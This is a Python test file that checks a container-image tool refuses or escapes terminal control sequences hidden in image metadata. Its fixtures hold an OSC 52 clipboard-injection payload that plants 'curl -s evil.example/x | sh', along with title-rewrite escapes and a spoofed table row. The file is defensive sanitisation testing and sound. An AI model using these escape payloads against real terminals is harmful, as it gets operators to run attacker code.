"""Nothing of an image reaches the operator's terminal raw.

An image config whose ``architecture`` sets the terminal's title and writes its
clipboard (OSC 0, OSC 52: the operator's next paste into a root shell is the
attacker's text) and whose ``variant`` starts a fake row of ``hostjob images``:
``import`` refuses it with one line naming the field. A store an older hostjob filled
with it (the check switched off, as it was) and images whose labels, environment and
other shown fields hold C0 and C1 controls: ``images`` (table and JSON) and
``inspect`` print no control character; the JSON still gives the values back whole.
"""

from __future__ import annotations

import base64
import json
import subprocess
from pathlib import Path

import pytest

from hostjob.images import platforms
from hostjob.images.store import Store
from tests.fixtures.images import write_layout
from tests.fixtures.tars import entry, make_tar
from tests.fixtures.terminal import assert_no_controls, controls
from tests.helpers import hostjob_cmd, hostjob_env

CLIPBOARD = base64.b64encode(b"curl -s evil.example/x | sh\n").decode()
ARCH = f"amd64\x1b]0;owned-title\x07\x1b]52;c;{CLIPBOARD}\x07"
FAKE_ROW = "localhost/trusted-base:latest   0123456789ab   1.2 MB   2 days ago   linux/amd64"
VARIANT = f"v8\n{FAKE_ROW}"
HOSTILE_TEXT = "a\x1b[2J\x1b]0;t\x07b\x9b31mc\x9d0;x\x9cd\x85e\nf\x7fg"


def hostjob(*args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [*hostjob_cmd(), *args], capture_output=True, env=hostjob_env(), timeout=120, check=False
    )


def layout(tmp_path: Path, name: str, **fields: str) -> str:
    path = tmp_path / name
    write_layout(
        str(path),
        [make_tar([entry("f", data=b"x")])],
        tag="v1",
        image_fields=fields,
    )
    return f"oci:{path}:v1"


def images_outputs(store: Path, name: str) -> dict[str, bytes]:
    out = {}
    for args in (("images",), ("images", "--format", "json"), ("inspect", name)):
        done = hostjob(*args[:1], "--store", str(store), *args[1:])
        assert done.returncode == 0, done.stderr
        out[" ".join(args)] = done.stdout
    return out


@pytest.mark.parametrize(
    ("fields", "named"),
    [({"architecture": ARCH}, "architecture"), ({"variant": VARIANT}, "variant")],
    ids=["architecture", "variant"],
)
def test_an_escape_in_the_platform_is_refused_at_import(
    tmp_path: Path, fields: dict[str, str], named: str
) -> None:
    ref = layout(tmp_path, "hostile", **fields)
    value = next(iter(fields.values()))
    assert controls(value, allowed=""), "the attack carries controls"
    store = tmp_path / "store"
    done = hostjob("import", "-q", "--store", str(store), "--name", "localhost/x:v1", ref)
    err = done.stderr.decode()
    assert done.returncode == 1 and err.count("\n") == 1, err
    assert f"{named} " in err and "is not made of [a-z0-9._-]: refused" in err
    assert_no_controls(done.stderr, what="import's error")
    listed = hostjob("images", "--store", str(store), "-q")
    assert listed.returncode == 0 and listed.stdout == b""


def test_a_store_an_older_hostjob_filled_prints_nothing_raw(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The platform check switched off, as before: the store holds the hostile config,
    and what an unescaped table would have printed holds the escapes."""
    monkeypatch.setattr(platforms, "check_field", lambda *args: None)
    store = tmp_path / "store"
    ref = layout(tmp_path, "hostile", architecture=ARCH, variant=VARIANT)
    Store(str(store)).pull(ref, name="localhost/hostile:v1")
    (row,) = Store(str(store)).images()
    assert row.platform is not None and "\x1b]52;c;" in row.platform and "\n" in row.platform
    out = images_outputs(store, "localhost/hostile:v1")
    for what, text in out.items():
        assert_no_controls(text, allowed="\n", what=what)
    table = out["images"].decode().splitlines()
    assert len(table) == 2 and table[1].startswith("localhost/hostile:v1")  # one row
    assert "trusted-base" in table[1]  # shown, escaped, inside its own row
    (summary,) = json.loads(out["images --format json"])
    assert summary["platform"] == f"linux/{ARCH}/{VARIANT}"  # the value, whole
    details = json.loads(out["inspect localhost/hostile:v1"])
    assert details["config"]["architecture"] == ARCH


def test_hostile_labels_and_fields_reach_no_terminal_raw(tmp_path: Path) -> None:
    """A valid platform, everything else hostile: labels (keys and values), the
    environment, the command, the author, the created time."""
    path = tmp_path / "labels"
    write_layout(
        str(path),
        [make_tar([entry("f", data=b"x")])],
        tag="v1",
        config={
            "Env": ["PATH=/bin", f"X={HOSTILE_TEXT}"],
            "Cmd": [HOSTILE_TEXT],
            "Labels": {HOSTILE_TEXT: HOSTILE_TEXT, "plain": "value"},
            "WorkingDir": "/\x1b[31m",
        },
        image_fields={"author": HOSTILE_TEXT, "created": HOSTILE_TEXT, "variant": "v8"},
    )
    store = tmp_path / "store"
    done = hostjob("import", "-q", "--store", str(store), "--name", "localhost/labels:v1",
                   f"oci:{path}:v1")  # fmt: skip
    assert done.returncode == 0, done.stderr
    out = images_outputs(store, "localhost/labels:v1")
    for what, text in out.items():
        assert_no_controls(text, allowed="\n", what=what)
    assert b"\\u009b31m" in out["inspect localhost/labels:v1"]  # C1 escaped, not dropped
    details = json.loads(out["inspect localhost/labels:v1"])
    assert details["config"]["config"]["Labels"][HOSTILE_TEXT] == HOSTILE_TEXT
    assert details["config"]["author"] == HOSTILE_TEXT
